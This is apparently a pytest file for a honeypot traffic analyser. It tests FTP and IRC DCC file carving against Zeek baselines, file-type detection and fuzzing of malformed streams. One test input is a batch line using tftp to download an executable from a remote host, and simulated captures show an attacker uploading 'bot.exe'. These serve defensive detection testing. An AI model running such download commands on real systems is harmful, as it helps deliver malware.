"""analyze_transfers: FTP data connections and IRC DCC SEND carved byte-exactly against Zeek's
baselines on real traces, built captures for upload/NAT cases, file_type, and hostile bytes."""

from __future__ import annotations

import hashlib
import random
import re
import struct
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import honeysift
import honeysift.pipeline
from honeysift.analysis.context import AnalysisContext
from honeysift.analysis.magic import file_type
from honeysift.analysis.transfers import analyze_transfers
from tests.scenario.tcp import CLIENT, SERVER, Capture, Endpoint


def _ctx(path: Path, honeypots: list[str]) -> AnalysisContext:
    cap = honeysift.open(str(path))
    pipe = honeysift.pipeline.Pipeline(cap)
    return AnalysisContext(cap, pipe, honeypots=honeypots, capture_label=str(path))


def _trace(corpus: Path, name: str) -> Path:
    hits = sorted((corpus / "traces").glob(name + ".*"))
    if not hits:
        pytest.skip(f"{name} not in the corpus")
    return hits[0]


def _zeek_log(path: Path) -> list[dict[str, str]]:
    lines = path.read_text().splitlines()
    fields = next(ln for ln in lines if ln.startswith("#fields")).split("\t")[1:]
    return [dict(zip(fields, ln.split("\t"), strict=True)) for ln in lines if ln and ln[0] != "#"]


def _zeek_hashes(path: Path) -> dict[str, str]:
    return dict(
        ln.split(": ", 1)
        for ln in path.read_text().splitlines()
        if ln.startswith(("MD5: ", "SHA1: ", "SHA256: "))
    )


# ------------------------------------------------------------------ FTP on real traces
def test_ftp_retr_matches_zeek_extracted_file(corpus):
    base = corpus / "expected" / "ftp__retr"
    want = (base / "thefile").read_bytes()
    h = _zeek_hashes(base / "out")
    res = analyze_transfers(_ctx(_trace(corpus, "ftp__retr"), ["141.142.228.5"]))
    (f,) = res.files
    assert f.protocol == "ftp" and f.direction == "download" and f.complete
    assert f.data == want and f.md5 == h["MD5"] and f.sha256 == h["SHA256"]
    assert hashlib.sha1(f.data).hexdigest() == h["SHA1"]
    m = re.search(r"resp_h=([\d.]+), resp_p=(\d+)/tcp", (base / "out").read_text())
    (s,) = res.extra["transfer_objects"]["ftp"]
    (ch,) = [c for c in s.channels if c.command == "RETR"]
    assert ch.port == int(m.group(2)) and ch.data_uid is not None and ch.reply_code == 226
    assert f.name == ch.argument.rsplit("/", 1)[-1]
    assert f.magic == "text"


def test_ftp_ipv4_channels_match_zeek_ftp_log(corpus):
    name = "ftp__ipv4"
    log = _zeek_log(corpus / "expected" / name / "ftp.log")
    conn = _zeek_log(corpus / "expected" / name / "conn.log")
    res = analyze_transfers(_ctx(_trace(corpus, name), ["141.142.220.235"]))
    (s,) = res.extra["transfer_objects"]["ftp"]
    assert (s.user, s.password) == (log[0]["user"], log[0]["password"])
    # Zeek logs each PASV/PORT with the data channel it set up
    z_ports = [int(r["data_channel.resp_p"]) for r in log if r["command"] in ("PASV", "PORT")]
    assert [c.port for c in s.channels] == z_ports
    assert [c.passive for c in s.channels] == [
        r["data_channel.passive"] == "T" for r in log if r["command"] in ("PASV", "PORT")
    ]
    # each channel is linked to the ftp-data connection Zeek saw on that port
    data_bytes = {
        int(r["id.resp_p"]): max(int(r["orig_bytes"]), int(r["resp_bytes"]))
        for r in conn
        if r["service"] == "ftp-data"
    }
    for c in s.channels:
        assert c.data_uid is not None and c.size == data_bytes[c.port]
    retr = [r for r in log if r["command"] == "RETR"]
    files = res.files
    assert len(files) == len(retr)
    for f, r in zip(files, retr, strict=True):
        assert f.size == int(r["file_size"]) and f.complete
        assert r["arg"].endswith(f.name)


# ------------------------------------------------------------------ DCC on the real trace
def test_irc_dcc_send_matches_zeek(corpus):
    name = "irc-dcc-send"
    irc = [r for r in _zeek_log(corpus / "expected" / name / "irc.log") if r["command"] == "DCC"]
    conn = _zeek_log(corpus / "expected" / name / "conn.log")
    (z,) = irc
    (zc,) = [r for r in conn if r["service"] == "irc-dcc-data"]
    res = analyze_transfers(_ctx(_trace(corpus, name), [z["id.resp_h"]]))
    (t,) = res.extra["transfer_objects"]["dcc"]
    assert (t.file, t.size) == (z["dcc_file_name"], int(z["dcc_file_size"]))
    assert t.port == int(zc["id.resp_p"]) and t.sender_address == zc["id.resp_h"]
    assert t.carved_size == int(zc["resp_bytes"]) == t.size and t.complete
    assert t.acked == t.size  # the receiver's last 4-byte ack
    (f,) = res.files
    assert (f.protocol, f.name, f.src, f.dst) == (
        "irc-dcc",
        "ssh.trace",
        zc["id.resp_h"],
        zc["id.orig_h"],
    )
    fa = corpus / "expected" / name / "more" / "scripts.base.frameworks.file-analysis.irc" / "out"
    if fa.is_file():
        h = _zeek_hashes(fa)
        assert f.md5 == h["MD5"] and f.sha256 == h["SHA256"]
    assert f.magic == "pcap capture file"
    assert t.offer_frame in f.evidence.frames


# ------------------------------------------------------------------ built captures
A = Endpoint("198.51.100.9", "00:00:0c:07:ac:01", ttl=113)
HP = Endpoint("172.16.134.191", "00:08:74:4f:36:23", local=True)
T0 = 1046476800.0


def _write(tmp: Path, build) -> AnalysisContext:
    cap = Capture(random.Random(3))
    build(cap)
    cap.write(tmp / "x.pcap")
    return _ctx(tmp / "x.pcap", [HP.ip])


def _pe(size: int) -> bytes:
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    opt = struct.pack("<H", 0x10B)
    return bytes(dos) + coff + opt + bytes(size - 0x80 - len(coff) - 2)


def test_ftp_active_upload_to_honeypot(tmp_path):
    """Attacker (FTP client) STORs a tool on the honeypot's FTP server in active mode."""
    tool = _pe(5000)

    def build(cap):
        c = cap.tcp(A, 1200, HP, 21, t=T0, rtt=0.05)
        c.handshake()
        c.send(SERVER, b"220 Microsoft FTP Service\r\n")
        for cmd, rep in (
            (b"USER anonymous", b"331 ok"),
            (b"PASS x@", b"230 logged in"),
            (b"TYPE I", b"200 Type set to I."),
            (b"PORT 198,51,100,9,19,137", b"200 PORT command successful."),
            (b"STOR bot.exe", b"150 Opening BINARY mode data connection for bot.exe."),
        ):
            c.send(CLIENT, cmd + b"\r\n")
            c.send(SERVER, rep + b"\r\n")
        d = cap.tcp(HP, 20, A, 19 * 256 + 137, t=c.t + 0.1, rtt=0.05)
        d.handshake()
        d.send(SERVER, tool)  # the FTP client (responder of the data connection) sends
        d.close(SERVER)
        c.at(d.t + 0.1)
        c.send(SERVER, b"226 Transfer complete.\r\n")
        c.close(CLIENT)

    res = analyze_transfers(_write(tmp_path, build))
    (f,) = res.files
    assert (f.name, f.direction, f.src, f.dst) == ("bot.exe", "upload", A.ip, HP.ip)
    assert f.data == tool and f.complete and f.magic.startswith("PE32 executable")
    assert any(x.category == "compromise" for x in res.findings)
    assert any(e.kind == "upload" for e in res.timeline)


def test_dcc_send_incomplete_when_short(tmp_path):
    payload = bytes(range(256)) * 40

    def build(cap):
        srv = Endpoint("209.196.44.172", "00:00:0c:07:ac:01")
        c = cap.tcp(HP, 1300, srv, 6667, t=T0, rtt=0.05)
        c.handshake()
        c.send(CLIENT, b"NICK bot\r\nUSER bot 0 0 :bot\r\n")
        ip = int.from_bytes(bytes(map(int, A.ip.split("."))), "big")
        offer = b":x!y@z PRIVMSG bot :\x01DCC SEND tool.exe %d 4455 20480\x01\r\n" % ip
        c.send(SERVER, b":irc 001 bot :Welcome\r\n" + offer)
        d = cap.tcp(HP, 1301, A, 4455, t=c.t + 1, rtt=0.05)
        d.handshake()
        d.send(SERVER, payload)
        d.send(CLIENT, struct.pack(">I", len(payload)))
        d.close(SERVER)

    res = analyze_transfers(_write(tmp_path, build))
    (t,) = res.extra["transfer_objects"]["dcc"]
    assert (t.file, t.size, t.carved_size, t.acked) == (
        "tool.exe",
        20480,
        len(payload),
        len(payload),
    )
    assert not t.complete
    (f,) = res.files
    assert f.data == payload and not f.complete and f.dst == HP.ip


# ------------------------------------------------------------------ file_type
def test_file_type_signatures():
    assert file_type(_pe(512)) == "PE32 executable, Intel 80386"
    assert file_type(b"MZ" + bytes(200)) == "MS-DOS executable"
    assert file_type(b"\x7fELF\x01\x01\x01") == "ELF"
    assert file_type(b"PK\x03\x04rest") == "ZIP archive"
    assert file_type(zlib.compress(b"x")[:0] + b"\x1f\x8b\x08\x00") == "gzip compressed data"
    assert file_type(b"BZh91AY&SY") == "bzip2 compressed data"
    assert file_type(b"Rar!\x1a\x07\x00") == "RAR archive"
    assert file_type(b"7z\xbc\xaf\x27\x1c\x00\x04") == "7-zip archive"
    assert file_type(b"%PDF-1.4\n") == "PDF document"
    assert file_type(b"\x89PNG\r\n\x1a\n....") == "PNG image"
    assert file_type(b"GIF89a\x01\x00") == "GIF image"
    assert file_type(b"\xff\xd8\xff\xe0\x00\x10JFIF") == "JPEG image"
    assert file_type(b"  <HTML><body>hi</body></html>") == "HTML document"
    assert file_type(b"#!/bin/sh\necho hi\n") == "sh script, text"
    assert file_type(b"@echo off\r\ntftp -i 1.2.3.4 GET a.exe\r\n") == "DOS batch file, text"
    assert file_type(b"hello world\n") == "text"
    assert file_type(bytes(range(256))) == "data"
    assert file_type(b"") == "empty"


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=600))
def test_file_type_never_raises(data):
    assert isinstance(file_type(b"MZ" + data), str)
    assert isinstance(file_type(data), str)


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(st.binary(max_size=400), st.binary(max_size=400))
def test_hostile_control_streams_never_raise(tmp_path, client, server):
    def build(cap):
        c = cap.tcp(A, 1400, HP, 21, t=T0, rtt=0.05)
        c.handshake()
        c.send(SERVER, b"220 hi\r\n" + server)
        c.send(CLIENT, b"USER a\r\nPORT 198,51,100,9,4,1\r\nRETR x\r\n" + client)
        c.close(CLIENT)
        d = cap.tcp(HP, 20, A, 1025, t=c.t + 0.1, rtt=0.05)
        d.handshake()
        if client:
            d.send(CLIENT, client)
        d.close(CLIENT)
        i = cap.tcp(A, 1401, HP, 6667, t=T0 + 3, rtt=0.05)
        i.handshake()
        i.send(CLIENT, b"NICK a\r\nPRIVMSG b :\x01DCC SEND " + client + b"\x01\r\n")
        i.close(CLIENT)

    analyze_transfers(_write(tmp_path, build))
